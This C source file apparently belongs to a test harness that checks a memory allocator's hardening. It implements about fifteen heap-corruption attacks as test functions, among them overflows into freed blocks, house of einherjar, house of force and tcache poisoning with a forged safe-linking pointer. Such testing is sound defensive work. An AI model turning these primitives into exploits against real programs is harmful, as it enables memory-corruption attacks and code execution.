// SPDX-License-Identifier: MIT
//
// attacks_write.c - attacks by a write behind a block, or into a freed one, that changes what malloc keeps there:
// sizes, links, the head of a thread's cache.
#include "attacks.h"

#include <unistd.h>

enum
{
    small = 64,
    middling = 2000,
    large = 1024 * 1024
};

// ---- nobody notices ------------------------------------------------------------------------------------------

static bool overflow_into_the_next_block(void)
{
    char *row[3];
    take_row(small, row, 3);
    memset(end_of(row[0]), 'A', 16);
    free(row[1]);
    free(row[0]);
    malloc(small);
    malloc(small);
    return true;
}

static bool write_to_a_freed_block(void)
{
    char *const block = malloc(middling);
    malloc(small);
    free(block);
    memset(block, 'A', 16);
    malloc(middling);
    malloc(middling);
    return true;
}

static bool overflow_into_a_freed_block(void)
{
    char *row[3];
    take_row(small, row, 3);
    free(row[2]);
    free(row[1]);
    memset(end_of(row[0]), 'A', 32);
    malloc(small);
    malloc(small);
    malloc(small);
    return true;
}

static bool write_behind_the_links_of_a_freed_block(void)
{
    char *const block = malloc(middling);
    malloc(small);
    free(block);
    memset(block + 64, 'A', 64);
    malloc(middling);
    malloc(middling);
    return true;
}

static bool write_to_a_freed_large_block(void)
{
    char *const block = malloc(large);
    memset(block, 'A', large);
    free(block);
    block[large / 2] = 'B';
    malloc(large);
    return true;
}

// ---- sizes ---------------------------------------------------------------------------------------------------

// "overlapping chunks": the size of the next chunk grows to hold the one behind it, too.
static bool size_of_the_next_block_grown(void)
{
    char *row[3];
    take_row(small + 8, row, 3);
    *end_of(row[0]) = 2 * 0x50 | 1;
    free(row[1]);
    char *const grown = malloc(2 * 0x50 - 8);
    return overlap(grown, 2 * 0x50 - 8, row[2], small + 8);
}

// "house of einherjar": one zero byte too many says that the block in front of the next one is free.
static bool one_zero_byte_too_many(void)
{
    void *cached[cache_places];
    take_some(0xf8, cached, cache_places);
    uintptr_t *const forged = malloc(0x38);
    char *const victim = malloc(0x28);
    char *const next = malloc(0xf8);
    const uintptr_t distance = (uintptr_t)(next - header) - (uintptr_t)forged;
    forged[0] = 0;
    forged[1] = distance;
    forged[2] = (uintptr_t)forged;
    forged[3] = (uintptr_t)forged;
    end_of(victim)[-1] = distance;
    *(char *)end_of(victim) = 0;
    free_all(cached, cache_places);
    free(next);
    return overlap(malloc(0x158), 0x158, victim, 0x28);
}

// "house of force": the rest of the heap becomes larger than the address space, and one block reaches up to the stack.
static bool size_of_the_rest_of_the_heap(void)
{
    _Alignas(16) char stack[256];
    char *const last = malloc(small);
    *end_of(last) = ~(uintptr_t)0;
    malloc((uintptr_t)stack - (uintptr_t)end_of(last) - 64);
    char *const block = malloc(small);
    return block != NULL && overlap(block, small, stack, sizeof stack);
}

// "mmap overlapping chunks": a block with a mapping of its own claims the mapping above it, too.
static bool size_of_a_mapped_block(void)
{
    char *blocks[3];
    for (int number = 0; number < 3; number++)
        blocks[number] = malloc(large);
    char *low = blocks[0];
    for (int number = 1; number < 3; number++)
        if (blocks[number] < low)
            low = blocks[number];
    char *high = NULL;
    for (int number = 0; number < 3; number++)
        if (blocks[number] > low && (high == NULL || blocks[number] < high))
            high = blocks[number];
    ((uintptr_t *)low)[-1] = 2 * (uintptr_t)(high - low) | 2;
    free(low);
    return overlap(malloc(3 * large), 3 * large, high, large);
}

// The header of a freed block says that it is a mapping of its own, so calloc takes it for zero.
static bool calloc_that_does_not_clear(void)
{
    void *cached[cache_places];
    char *row[2];
    take_some(small + 8, cached, cache_places);
    take_row(small + 8, row, 2);
    memset(row[1], 'S', small + 8);
    free_all(cached, cache_places);
    free(row[1]);
    *end_of(row[0]) |= 2;
    const char *const block = calloc(1, small + 8);
    for (int byte = 0; byte < small + 8; byte++)
        if (block[byte] != 0)
            return true;
    return false;
}

// ---- links ---------------------------------------------------------------------------------------------------

static bool link_to_the_stack(bool leaked)
{
    _Alignas(16) uintptr_t stack[64] = {0, small + header | 1};
    char *const block = malloc(small);
    char *const other = malloc(small);
    free(block);
    free(other);
    uintptr_t *const link = (uintptr_t *)other;
    *link = leaked ? forged_link(link, *link, link, block, stack + 2) : (uintptr_t)(stack + 2);
    malloc(small);
    return malloc(small) == (void *)(stack + 2);
}

// The write does not know how links are mixed.
static bool link_to_the_stack_as_it_is(void)
{
    return link_to_the_stack(false);
}

// "tcache poisoning": the freed block was read before, and the attacker knows where his blocks are.
static bool link_to_the_stack_after_a_leak(void)
{
    return link_to_the_stack(true);
}

// The same without a pointer to the freed block: the one in front of it is read and written beyond its end.
static bool link_of_the_next_block_after_a_leak(void)
{
    _Alignas(16) uintptr_t stack[64] = {0, small + header | 1};
    char *row[3];
    take_row(small, row, 3);
    free(row[2]);
    free(row[1]);
    for (uintptr_t *word = end_of(row[0]); word <= (uintptr_t *)row[1]; word++)
        *word = word == (uintptr_t *)row[1] ? forged_link(word, *word, word, row[2], stack + 2) : *word;
    malloc(small);
    return malloc(small) == (void *)(stack + 2);
}

// Nothing needs to be known to turn a bit.
static bool link_with_a_turned_bit(void)
{
    char *row[4];
    take_row(240, row, 4);
    free(row[1]);
    free(row[3]);
    *(uintptr_t *)row[3] ^= 64;
    malloc(240);
    char *const turned = malloc(240);
    return overlap(turned, 240, row[0], 240) || overlap(turned, 240, row[2], 240);
}

// ---- the head of a cache -------------------------------------------------------------------------------------

static bool readable(const void *page)
{
    int ends[2];
    if (pipe(ends) != 0)
        exit(ended_unsuited);
    const bool taken = write(ends[1], page, 1) == 1;
    close(ends[0]);
    close(ends[1]);
    return taken;
}

// "tcache metadata poisoning": an index far out of range, below or above the block, meets the word that names the block
// freed last.
static bool head_of_the_cache(void)
{
    static _Alignas(16) uintptr_t target[64] = {0, small + header | 1};
    char *const block = malloc(small);
    char *const origin = (char *)((uintptr_t)block & ~(uintptr_t)4095);
    free(block);
    for (int page = -512; page < 512; page++)
    {
        uintptr_t *const words = (uintptr_t *)(origin + page * 4096);
        if (!readable(words))
            continue;
        for (int word = 0; word < 512; word++)
            if (words[word] == (uintptr_t)block)
            {
                words[word] = (uintptr_t)(target + 2);
                return malloc(small) == (void *)(target + 2);
            }
    }
    return false;
}

const struct attack attacks_by_write[] = {
    {"overflow_into_the_next_block", overflow_into_the_next_block},
    {"write_to_a_freed_block", write_to_a_freed_block},
    {"overflow_into_a_freed_block", overflow_into_a_freed_block},
    {"write_behind_the_links_of_a_freed_block", write_behind_the_links_of_a_freed_block},
    {"write_to_a_freed_large_block", write_to_a_freed_large_block},
    {"size_of_the_next_block_grown", size_of_the_next_block_grown},
    {"one_zero_byte_too_many", one_zero_byte_too_many},
    {"size_of_the_rest_of_the_heap", size_of_the_rest_of_the_heap},
    {"size_of_a_mapped_block", size_of_a_mapped_block},
    {"calloc_that_does_not_clear", calloc_that_does_not_clear},
    {"link_to_the_stack_as_it_is", link_to_the_stack_as_it_is},
    {"link_to_the_stack_after_a_leak", link_to_the_stack_after_a_leak},
    {"link_of_the_next_block_after_a_leak", link_of_the_next_block_after_a_leak},
    {"link_with_a_turned_bit", link_with_a_turned_bit},
    {"head_of_the_cache", head_of_the_cache},
    {NULL, NULL},
};
